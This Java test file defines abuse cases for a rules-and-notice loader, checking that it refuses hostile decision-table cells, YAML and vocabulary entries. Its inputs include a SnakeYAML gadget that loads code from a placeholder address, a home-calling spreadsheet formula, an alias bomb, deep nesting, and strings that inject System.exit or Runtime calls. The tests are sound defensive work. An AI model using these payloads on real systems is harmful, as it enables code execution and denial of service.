package io.clausewise.app.abuse;

import static io.clausewise.app.abuse.HostileRules.RUN;

import java.util.stream.Stream;

/** Abuse case 27: code in decision tables, in {@code notice.yaml}, in the vocabulary and in cases. */
final class HostileWords {
    private static final String CODE = "\"\"\"); " + RUN.replace("\"", "\"\"") + "; //\"";

    private HostileWords() {}

    static Stream<HostileRules> all() {
        return Stream.of(cells(), headings(), yaml(), words()).flatMap(rows -> rows);
    }

    private static Stream<HostileRules> cells() {
        String row = "2-table,二,国家级,National,国家级,10";
        return Stream.of(
                csv(
                                "a number that is code",
                                row,
                                "2-table,二,国家级,National,国家级," + CODE,
                                "number-unknown toy/one/2.drl.csv F9 2-table")
                        .asItsKind(),
                csv(
                        "a title that is code",
                        row,
                        "2-table,二," + CODE + ",National,国家级,10",
                        "cell-character toy/one/2.drl.csv C9 2-table"),
                // Drools pastes cells into text without escaping; here they are never pasted
                HostileRules.accepted(
                        "27 a table with comment marks and expressions in a title",
                        (folder, target) -> folder.edit(
                                ToyNotice.CSV,
                                row,
                                target.aim("2-table,二,*/ #{1} $param <script> =1+1 " + RUN.replace("\"", "")
                                        + ",National,国家级,10"))),
                book("a level that is code", "省级,5", "evil(),5", "cell-unknown toy/one/3.drl.xlsx E9 3-book"),
                book("a name that is code", "3-book", "evil(){}", "rule-name toy/one/3.drl.xlsx A9"),
                HostileRules.refused(
                        "27 a workbook with a formula that calls home",
                        (folder, target) -> folder.write(
                                ToyNotice.BOOK, HostileTables.formula(target.aim("WEBSERVICE(\"ADDRESS\")"))),
                        "workbook-formula toy/one/3.drl.xlsx F9"),
                HostileRules.refused(
                        "27 a workbook with an entity that calls home",
                        (folder, target) -> folder.write(ToyNotice.BOOK, HostileTables.entity(target.address())),
                        "workbook-unreadable toy/one/3.drl.xlsx"));
    }

    private static Stream<HostileRules> headings() {
        return Stream.of(
                csv(
                        "a fact type that is code",
                        ",,,,Competition...,",
                        ",,,," + CODE + ",",
                        "type-unknown toy/one/2.drl.csv E6"),
                csv(
                        "a constraint that calls",
                        "level == $param",
                        RUN.replace("\"", "\"\"").replaceFirst("^", "\"") + " != $param\"",
                        "method-call toy/one/2.drl.csv E7"),
                csv(
                        "an annotation nobody knows",
                        "cites( $param )",
                        "evil( $param )",
                        "annotation-template toy/one/2.drl.csv B7"),
                csv(
                        "an ACTION column",
                        "METADATA,CONDITION,CONDITION",
                        "METADATA,CONDITION,ACTION",
                        "column-unknown toy/one/2.drl.csv F5"),
                csv(
                        "the import of a class",
                        "Import,io.clausewise.facts.*",
                        "Import,java.lang.Runtime",
                        "import-refused toy/one/2.drl.csv B2"),
                csv(
                        "functions",
                        "Import,io",
                        "Functions,\"void f() { " + RUN.replace("\"", "\"\"") + "; }\",,,,\nImport,io",
                        "setting-unknown toy/one/2.drl.csv A2"),
                csv(
                        "a package that is code",
                        "RuleSet,toy.one",
                        "RuleSet,toy.one; import java.lang.Runtime",
                        "package-wrong toy/one/2.drl.csv B1"));
    }

    private static Stream<HostileRules> yaml() {
        String tag = "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"ADDRESS\"]]]]";
        return Stream.of(
                notice(
                                "a tag that runs code",
                                "title: {zh: 玩具, en: Toy}\nstatus",
                                "title: " + tag + "\nstatus",
                                "yaml-tag toy/one/notice.yaml:2")
                        .asItsKind(),
                notice(
                        "an alias",
                        "title: {zh: 玩具, en: Toy}\nstatus",
                        "title: &t {zh: 玩具, en: Toy}\nother: *t\nstatus",
                        "yaml-alias toy/one/notice.yaml:2",
                        "yaml-alias toy/one/notice.yaml:3"),
                HostileRules.refused(
                        "27 a bomb of aliases in notice.yaml",
                        (folder, target) -> folder.write(ToyNotice.NOTICE, HostileTables.aliasBomb()),
                        "yaml-alias toy/one/notice.yaml:1"),
                HostileRules.refused(
                        "27 notice.yaml nested 100 000 deep",
                        (folder, target) -> folder.write(ToyNotice.NOTICE, "a: " + "[".repeat(100_000)),
                        "yaml-too-deep toy/one/notice.yaml:1"),
                notice(
                        "a clause id that is code",
                        "- 1-rank",
                        "- '1-rank(){}; System.exit(0)'",
                        "clause-without-rule toy/one/notice.yaml:11"),
                notice(
                        "a programme id that is code",
                        "- id: toy",
                        "- id: '${evil}'",
                        "program-id toy/one/notice.yaml:5"),
                notice(
                        "a title that ends its text",
                        "document: 玩具",
                        "document: '\"); System.exit(0); //'\nx: 玩具",
                        "character-in-text toy/one/notice.yaml:1"),
                HostileRules.accepted(
                        "27 a title of comment marks, markup and expressions in notice.yaml",
                        (folder, target) -> folder.edit(
                                ToyNotice.NOTICE,
                                "zh: 玩具, en: Toy}\nstatus",
                                "zh: '*/ ${1} #{1} <script>', en: Toy}\nstatus")),
                HostileRules.refused(
                        "27 a tag that runs code in a case file",
                        (folder, target) -> folder.edit(ToyNotice.CASES, "program: toy", target.aim("program: " + tag)),
                        "yaml-tag toy/one/1.yaml:1"));
    }

    private static Stream<HostileRules> words() {
        return Stream.of(
                vocabulary(
                        "a word that ends its text",
                        "国家级",
                        "'国家级\"); System.exit(0); //'",
                        "character-in-text vocabulary.yaml:7"),
                vocabulary("a value that is code", "NATIONAL: [", "'evil()': [", "no-such-value vocabulary.yaml:7"),
                // a label that nothing asks for
                HostileRules.accepted(
                        "27 vocabulary.yaml with a field that is code",
                        (folder, target) -> folder.edit(
                                ToyNotice.VOCABULARY,
                                "fields: {}",
                                "fields: {'/person/class/classLoader': {zh: x, en: x}}")),
                vocabulary(
                        "a honour that is code",
                        "玩具能手",
                        "'\\\\u0022); System.exit(0); //'",
                        "character-in-text vocabulary.yaml:2"),
                vocabulary(
                        "a tag that runs code",
                        "criteria: []",
                        "criteria: !!java.net.URL [\"ADDRESS\"]",
                        "yaml-tag vocabulary.yaml:3"),
                HostileRules.accepted(
                        "27 a vocabulary of comment marks, markup and expressions",
                        (folder, target) -> folder.edit(
                                ToyNotice.VOCABULARY, "玩具能手", "'*/ ${1} #{1} <script> Runtime.getRuntime()'")));
    }

    private static HostileRules csv(String name, String from, String to, String finding) {
        return HostileRules.edit("27 a table with " + name, ToyNotice.CSV, from, to, finding);
    }

    private static HostileRules book(String name, String from, String to, String finding) {
        return HostileRules.refused(
                "27 a workbook with " + name,
                (folder, target) -> folder.write(ToyNotice.BOOK, HostileTables.edited(from, to)),
                finding);
    }

    private static HostileRules notice(String name, String from, String to, String... findings) {
        return HostileRules.edit("27 notice.yaml with " + name, ToyNotice.NOTICE, from, to, findings);
    }

    private static HostileRules vocabulary(String name, String from, String to, String finding) {
        return HostileRules.edit("27 vocabulary.yaml with " + name, ToyNotice.VOCABULARY, from, to, finding);
    }
}
